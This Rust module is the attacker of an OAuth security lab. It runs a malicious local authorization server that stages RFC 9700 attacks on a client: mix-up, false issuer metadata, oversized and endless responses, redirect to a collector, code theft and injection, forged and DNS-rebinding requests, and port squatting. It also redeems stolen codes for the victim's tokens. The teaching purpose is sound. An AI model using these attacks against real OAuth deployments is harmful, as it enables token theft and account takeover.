//! The lab's attacker (lesson 12): a second, evil authorization server that a
//! test or `--attacker MODE` starts beside an honest provider, to play the
//! attacks of RFC 9700 §4 on a client. Everything it does is recorded in the
//! honest provider's trace as actor `attacker`, with its RFC section, so the
//! inspector (`/_lab`) shows each attack in red.
//!
//! It is a small server of its own, a thread per connection, because its
//! answers are meant to be bad ones (a megabyte, an answer that never ends)
//! that the provider's own server (`http.rs`) is built never to give.
//!
//! | mode | what it does | RFC |
//! |---|---|---|
//! | `mix-up` | its metadata names itself; its `/authorize` sends the browser on to the honest provider with the client's request unchanged; what reaches its `/token` it redeems there | RFC 9700 §4.4, RFC 9207 |
//! | `false-issuer` | its metadata claims the honest provider's issuer and authorization endpoint, with its own token endpoint | RFC 8414 §3.3, RFC 9700 §4.4 |
//! | `oversized` | every answer is a 1 MiB token response | RFC 9700 §4.4 (an attacker's server) |
//! | `endless` | every answer begins and never ends: a byte every 50 ms | RFC 9700 §4.4 |
//! | `redirect` | every answer is a `307` to its `/collect`, which records what arrives | RFC 9700 §4.12 |
//!
//! In every mode it can also play the code thief of RFC 9700 §4.5: obtain a
//! code at the honest provider as its own user, and deliver it to a victim's
//! loopback listener ([`Attacker::obtain_code`], [`Attacker::deliver_code`]).

use std::io::{Read, Write};
use std::net::{Shutdown, SocketAddr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::json;

use crate::owner::{self, OwnerError, ResourceOwner};
use crate::secrets::{new_secret, s256, shorten};
use crate::state::App;
use crate::trace::Step;

/// The actor the attacker's steps are recorded as.
pub const ATTACKER: &str = "attacker";

/// The size of the `oversized` answer.
pub const OVERSIZED_BYTES: usize = 1024 * 1024;

/// What the attacker's server does (see the module's table).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    MixUp,
    FalseIssuer,
    Oversized,
    Endless,
    Redirect,
}

impl Attack {
    pub const ALL: [Attack; 5] = [
        Attack::MixUp,
        Attack::FalseIssuer,
        Attack::Oversized,
        Attack::Endless,
        Attack::Redirect,
    ];

    /// The name `--attacker` takes.
    pub fn name(self) -> &'static str {
        match self {
            Attack::MixUp => "mix-up",
            Attack::FalseIssuer => "false-issuer",
            Attack::Oversized => "oversized",
            Attack::Endless => "endless",
            Attack::Redirect => "redirect",
        }
    }

    pub fn from_name(name: &str) -> Option<Attack> {
        Attack::ALL.into_iter().find(|a| a.name() == name)
    }
}

/// A request the attacker's server received, values whole (it is the
/// attacker's loot; `Debug` shortens them all the same).
#[derive(Clone)]
pub struct Seen {
    pub method: String,
    pub path: String,
    /// Query and form parameters, decoded.
    pub params: Vec<(String, String)>,
}

impl Seen {
    pub fn param(&self, name: &str) -> Option<&str> {
        self.params
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, v)| v.as_str())
    }
}

impl std::fmt::Debug for Seen {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let params: Vec<_> = self
            .params
            .iter()
            .map(|(n, v)| format!("{n}={}", shown(n, v)))
            .collect();
        write!(
            f,
            "Seen({} {} {})",
            self.method,
            self.path,
            params.join(" ")
        )
    }
}

/// A parameter's value as the trace may show it: secrets shortened.
fn shown(name: &str, value: &str) -> String {
    match name {
        "code" | "code_verifier" | "access_token" | "refresh_token" | "client_secret" => {
            shorten(value)
        }
        _ => value.chars().take(120).collect(),
    }
}

struct Shared {
    attack: Attack,
    base: String,
    honest: Arc<App>,
    seen: Mutex<Vec<Seen>>,
    /// What the attacker got by redeeming stolen codes at the honest provider.
    redeemed: Mutex<Vec<String>>,
    stopping: AtomicBool,
}

impl Shared {
    fn record(&self, request: String, status: u16, params: &[(String, String)], outcome: String) {
        let step = Step {
            actor: ATTACKER.into(),
            params: params
                .iter()
                .map(|(n, v)| (n.clone(), shown(n, v)))
                .collect(),
            outcome,
            ..Step::default()
        };
        self.honest
            .trace
            .record(self.honest.now(), request, status, step);
    }
}

/// A running attacker on 127.0.0.1; it stops when dropped.
pub struct Attacker {
    addr: SocketAddr,
    shared: Arc<Shared>,
}

impl Attacker {
    pub(crate) fn start(honest: Arc<App>, attack: Attack) -> std::io::Result<Attacker> {
        let listener = TcpListener::bind("127.0.0.1:0")?;
        let addr = listener.local_addr()?;
        let shared = Arc::new(Shared {
            attack,
            base: format!("http://{addr}"),
            honest,
            seen: Mutex::new(Vec::new()),
            redeemed: Mutex::new(Vec::new()),
            stopping: AtomicBool::new(false),
        });
        let inner = shared.clone();
        std::thread::Builder::new()
            .name("lab-attacker".into())
            .spawn(move || {
                for stream in listener.incoming() {
                    if inner.stopping.load(Ordering::SeqCst) {
                        return;
                    }
                    let Ok(stream) = stream else { continue };
                    let shared = inner.clone();
                    let _ = std::thread::Builder::new()
                        .name("lab-attacker-conn".into())
                        .spawn(move || serve(&shared, stream));
                }
            })?;
        Ok(Attacker { addr, shared })
    }

    /// `http://127.0.0.1:PORT`: the attacker's issuer identifier.
    pub fn base_url(&self) -> &str {
        &self.shared.base
    }

    pub fn attack(&self) -> Attack {
        self.shared.attack
    }

    /// Every request its server received so far.
    pub fn seen(&self) -> Vec<Seen> {
        self.shared
            .seen
            .lock()
            .unwrap_or_else(|e| e.into_inner())
            .clone()
    }

    /// True when an authorization code reached it (its `/token`, or `/collect`
    /// after a redirect).
    pub fn got_a_code(&self) -> bool {
        self.seen().iter().any(|s| s.param("code").is_some())
    }

    /// The users whose tokens it obtained with stolen codes.
    pub fn redeemed(&self) -> Vec<String> {
        self.shared
            .redeemed
            .lock()
            .unwrap_or_else(|e| e.into_inner())
            .clone()
    }

    /// RFC 9700 §4.5: the attacker logs in at the honest provider as `owner`
    /// (its own account), for `client_id`, with the victim's `redirect_uri` and
    /// a PKCE challenge of its own, and keeps the code that comes back instead
    /// of following the redirect. (A code stolen from a victim's redirect looks
    /// the same to the victim's listener.)
    pub fn obtain_code(
        &self,
        owner: &ResourceOwner,
        client_id: &str,
        redirect_uri: &str,
    ) -> Result<String, OwnerError> {
        let verifier = new_secret("attacker_");
        let mut url = url::Url::parse(&format!("{}/authorize", self.shared.honest.issuer))
            .expect("the issuer is a URL");
        url.query_pairs_mut()
            .append_pair("response_type", "code")
            .append_pair("client_id", client_id)
            .append_pair("redirect_uri", redirect_uri)
            .append_pair("scope", "profile")
            .append_pair("state", "attacker")
            .append_pair("code_challenge", &s256(&verifier))
            .append_pair("code_challenge_method", "S256");
        let redirect = owner.approve(url.as_str())?;
        let code = redirect.param("code").ok_or(OwnerError::NoRedirect {
            status: 302,
            message: "the redirect carries no code".into(),
        })?;
        self.shared.record(
            "obtain a code".into(),
            200,
            &[("code".into(), code.clone())],
            format!(
                "the attacker logged in as {} and kept the code instead of following the redirect (RFC 9700 §4.5)",
                owner.username
            ),
        );
        Ok(code)
    }

    /// RFC 9700 §4.5 and §4.7: delivers `code` to a victim's listener as a
    /// browser would, `GET redirect_uri?code=…[&state=…]&iss=…`, with the honest
    /// provider's `iss`. Returns the status the listener answered, if any.
    pub fn deliver_code(&self, redirect_uri: &str, code: &str, state: Option<&str>) -> Option<u16> {
        let mut url = url::Url::parse(redirect_uri).ok()?;
        {
            let mut query = url.query_pairs_mut();
            query.append_pair("code", code);
            if let Some(state) = state {
                query.append_pair("state", state);
            }
            query.append_pair("iss", &self.shared.honest.issuer);
        }
        let agent = owner::agent();
        let status = agent
            .get(url.as_str())
            .call()
            .ok()
            .map(|r| r.status().as_u16());
        let with_state = if state.is_some() {
            "with the victim's state"
        } else {
            "without a state"
        };
        self.shared.record(
            format!("deliver a code to {redirect_uri}"),
            status.unwrap_or(0),
            &[("code".into(), code.to_string())],
            format!(
                "code injection {with_state}: the listener answered {} (RFC 9700 §4.5; state: RFC 9700 §4.7)",
                status.map_or("nothing".to_string(), |s| s.to_string())
            ),
        );
        status
    }
}

impl Attacker {
    /// RFC 9700 §4.7 (CSRF) and RFC 9110 §7.2 (DNS rebinding): sends
    /// `GET target` to the listener of `redirect_uri`, as a page alice visits
    /// would make her browser do, with `Host: host` (the listener's own when
    /// `None`; a foreign name is what a rebinding page sends). Returns the
    /// status the listener answered, if any.
    pub fn forge_request(
        &self,
        redirect_uri: &str,
        target: &str,
        host: Option<&str>,
    ) -> Option<u16> {
        let uri = url::Url::parse(redirect_uri).ok()?;
        let own = format!("{}:{}", uri.host_str()?, uri.port_or_known_default()?);
        let host = host.unwrap_or(&own);
        let status = (|| {
            let mut stream = TcpStream::connect(own.as_str()).ok()?;
            stream
                .set_read_timeout(Some(Duration::from_secs(10)))
                .ok()?;
            write!(
                stream,
                "GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
            )
            .ok()?;
            let mut answer = String::new();
            let _ = stream.read_to_string(&mut answer);
            answer.split(' ').nth(1)?.parse::<u16>().ok()
        })();
        let path = target.split('?').next().unwrap_or("");
        let params: Vec<(String, String)> =
            url::form_urlencoded::parse(target.split_once('?').map_or("", |(_, q)| q).as_bytes())
                .into_owned()
                .collect();
        let outcome = if host != own {
            format!("DNS rebinding: a page at {host:?} reaches the listener (RFC 9110 §7.2)")
        } else {
            format!("a forged request to the listener's {path} (RFC 9700 §4.7)")
        };
        self.shared.record(
            format!("GET {path} at {own}"),
            status.unwrap_or(0),
            &params,
            format!(
                "{outcome}: it answered {}",
                status.map_or("nothing".to_string(), |s| s.to_string())
            ),
        );
        status
    }

    /// RFC 8252 §8.3: takes `port` on 127.0.0.1 before the victim does (0: any
    /// free port); whoever holds the port gets the browser's answer.
    pub fn squat(&self, port: u16) -> std::io::Result<TcpListener> {
        let listener = TcpListener::bind(("127.0.0.1", port))?;
        let port = listener.local_addr()?.port();
        self.shared.record(
            format!("listen on 127.0.0.1:{port}"),
            200,
            &[],
            "port squatting: the attacker holds the port first, to catch the browser's answer (RFC 8252 §8.3)".into(),
        );
        Ok(listener)
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        self.shared.stopping.store(true, Ordering::SeqCst);
        // Wake the blocking accept() so that its loop sees the flag.
        let _ = TcpStream::connect_timeout(&self.addr, Duration::from_millis(200));
    }
}

/// A request as the attacker reads it: method, path, parameters of the query
/// and of a form body.
fn read_request(stream: &mut TcpStream) -> Option<Seen> {
    stream.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    loop {
        let mut headers = [httparse::EMPTY_HEADER; 64];
        let mut request = httparse::Request::new(&mut headers);
        if let Ok(httparse::Status::Complete(head)) = request.parse(&buf) {
            let length = request
                .headers
                .iter()
                .find(|h| h.name.eq_ignore_ascii_case("content-length"))
                .and_then(|h| {
                    std::str::from_utf8(h.value)
                        .ok()?
                        .trim()
                        .parse::<usize>()
                        .ok()
                })
                .unwrap_or(0)
                .min(64 * 1024);
            let method = request.method.unwrap_or("").to_string();
            let target = request.path.unwrap_or("").to_string();
            while buf.len() < head + length {
                let n = stream.read(&mut chunk).ok().filter(|n| *n > 0)?;
                buf.extend_from_slice(&chunk[..n]);
            }
            let (path, query) = target.split_once('?').unwrap_or((&target, ""));
            let mut params: Vec<(String, String)> = url::form_urlencoded::parse(query.as_bytes())
                .into_owned()
                .collect();
            params.extend(url::form_urlencoded::parse(&buf[head..head + length]).into_owned());
            return Some(Seen {
                method,
                path: path.to_string(),
                params,
            });
        }
        if buf.len() > 16 * 1024 {
            return None;
        }
        let n = stream.read(&mut chunk).ok().filter(|n| *n > 0)?;
        buf.extend_from_slice(&chunk[..n]);
    }
}

fn answer(stream: &mut TcpStream, status: &str, headers: &[(&str, String)], body: &[u8]) {
    let mut head = format!(
        "HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\n",
        body.len()
    );
    for (name, value) in headers {
        head.push_str(&format!("{name}: {value}\r\n"));
    }
    head.push_str("\r\n");
    let _ = stream.set_write_timeout(Some(Duration::from_secs(10)));
    let _ = stream.write_all(head.as_bytes());
    let _ = stream.write_all(body);
    let _ = stream.shutdown(Shutdown::Write);
}

fn json_answer(stream: &mut TcpStream, status: &str, value: serde_json::Value) {
    answer(
        stream,
        status,
        &[("Content-Type", "application/json".into())],
        value.to_string().as_bytes(),
    );
}

fn serve(shared: &Shared, mut stream: TcpStream) {
    let Some(seen) = read_request(&mut stream) else {
        return;
    };
    shared
        .seen
        .lock()
        .unwrap_or_else(|e| e.into_inner())
        .push(seen.clone());
    let request = format!("{} {} (attacker's server)", seen.method, seen.path);
    let honest = shared.honest.issuer.clone();
    let base = &shared.base;
    if seen.path == "/collect" {
        shared.record(
            request,
            200,
            &seen.params,
            "the client followed the attacker's redirect and sent this here (RFC 9700 §4.12)"
                .into(),
        );
        return json_answer(&mut stream, "200 OK", json!({}));
    }
    match shared.attack {
        Attack::MixUp | Attack::FalseIssuer
            if seen.path == "/.well-known/oauth-authorization-server" =>
        {
            let (issuer, authorize, outcome) = if shared.attack == Attack::MixUp {
                (
                    base.clone(),
                    format!("{base}/authorize"),
                    "metadata naming the attacker itself, as RFC 8414 asks (RFC 9700 §4.4.1)",
                )
            } else {
                (
                    honest.clone(),
                    format!("{honest}/authorize"),
                    "metadata claiming the honest provider's issuer, with the attacker's token endpoint (RFC 8414 §3.3)",
                )
            };
            shared.record(request, 200, &[], outcome.into());
            json_answer(
                &mut stream,
                "200 OK",
                json!({
                    "issuer": issuer,
                    "authorization_endpoint": authorize,
                    "token_endpoint": format!("{base}/token"),
                    "response_types_supported": ["code"],
                    "code_challenge_methods_supported": ["S256"],
                    "authorization_response_iss_parameter_supported": true,
                }),
            );
        }
        Attack::MixUp | Attack::FalseIssuer if seen.path == "/authorize" => {
            // The client's own request, unchanged, to the honest provider: the
            // person logs in there and the code comes back with iss=honest.
            let query = url::form_urlencoded::Serializer::new(String::new())
                .extend_pairs(&seen.params)
                .finish();
            shared.record(
                request,
                302,
                &seen.params,
                "mix-up: the browser is sent on to the honest provider with the client's own request, so the code will come from there (RFC 9700 §4.4.1)".into(),
            );
            answer(
                &mut stream,
                "302 Found",
                &[("Location", format!("{honest}/authorize?{query}"))],
                b"",
            );
        }
        Attack::MixUp | Attack::FalseIssuer if seen.path == "/token" => {
            let redeemed = redeem(&honest, &seen);
            let outcome = match &redeemed {
                Some(user) => format!(
                    "stolen: the client sent its code and verifier to the attacker, who redeemed them at the honest provider and now holds {user}'s tokens (RFC 9700 §4.4)"
                ),
                None => "stolen: the client sent its code to the attacker (RFC 9700 §4.4)".into(),
            };
            if let Some(user) = redeemed {
                shared
                    .redeemed
                    .lock()
                    .unwrap_or_else(|e| e.into_inner())
                    .push(user);
            }
            shared.record(request, 200, &seen.params, outcome);
            json_answer(
                &mut stream,
                "200 OK",
                json!({"access_token": new_secret("attacker_at_"), "token_type": "Bearer", "expires_in": 3600}),
            );
        }
        Attack::MixUp | Attack::FalseIssuer => {
            json_answer(&mut stream, "404 Not Found", json!({"error": "not_found"}));
        }
        Attack::Oversized => {
            shared.record(
                request,
                200,
                &seen.params,
                format!(
                    "an answer of {} KiB: a client without a size limit reads it all (a malicious server, RFC 9700 §4.4)",
                    OVERSIZED_BYTES / 1024
                ),
            );
            let start = br#"{"access_token":"attacker_at_big","token_type":"Bearer","padding":""#;
            let end = br#""}"#;
            let mut body = Vec::with_capacity(OVERSIZED_BYTES);
            body.extend_from_slice(start);
            body.resize(OVERSIZED_BYTES - end.len(), b'a');
            body.extend_from_slice(end);
            answer(
                &mut stream,
                "200 OK",
                &[("Content-Type", "application/json".into())],
                &body,
            );
        }
        Attack::Endless => {
            shared.record(
                request.clone(),
                200,
                &seen.params,
                "an answer that never ends, a byte every 50 ms: a client without a deadline waits forever (a malicious server, RFC 9700 §4.4)".into(),
            );
            let head = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100000000\r\n\r\n{\"access_token\":\"";
            let _ = stream.set_write_timeout(Some(Duration::from_secs(5)));
            let started = std::time::Instant::now();
            let mut sent = stream.write_all(head.as_bytes()).is_ok();
            // Until the client hangs up, or ten minutes.
            while sent
                && !shared.stopping.load(Ordering::SeqCst)
                && started.elapsed() < Duration::from_secs(600)
            {
                std::thread::sleep(Duration::from_millis(50));
                sent = stream.write_all(b"a").is_ok();
            }
            shared.record(
                request,
                200,
                &[],
                format!(
                    "the client hung up on the endless answer after {:.1} s",
                    started.elapsed().as_secs_f64()
                ),
            );
        }
        Attack::Redirect => {
            shared.record(
                request,
                307,
                &seen.params,
                "a 307 redirect to the attacker's /collect: a client that follows it sends the same request there (RFC 9700 §4.12)".into(),
            );
            answer(
                &mut stream,
                "307 Temporary Redirect",
                &[("Location", format!("{base}/collect"))],
                b"",
            );
        }
    }
}

/// The attacker redeems a stolen code (and verifier, if it got one) at the
/// honest provider, as the client it came from; returns whose tokens it got.
fn redeem(honest: &str, seen: &Seen) -> Option<String> {
    let code = seen.param("code")?;
    let mut form = vec![
        ("grant_type", "authorization_code"),
        ("code", code),
        ("client_id", seen.param("client_id").unwrap_or("lab-public")),
    ];
    for name in ["redirect_uri", "code_verifier"] {
        if let Some(value) = seen.param(name) {
            form.push((name, value));
        }
    }
    let agent = owner::agent();
    let mut answer = agent
        .post(&format!("{honest}/token"))
        .send_form(form)
        .ok()?;
    if answer.status() != 200 {
        return None;
    }
    let tokens: serde_json::Value =
        serde_json::from_str(&answer.body_mut().read_to_string().ok()?).ok()?;
    let token = tokens.get("access_token")?.as_str()?;
    let mut me = agent
        .get(&format!("{honest}/api/me"))
        .header("Authorization", &format!("Bearer {token}"))
        .call()
        .ok()?;
    let me: serde_json::Value = serde_json::from_str(&me.body_mut().read_to_string().ok()?).ok()?;
    Some(me.get("username")?.as_str()?.to_string())
}
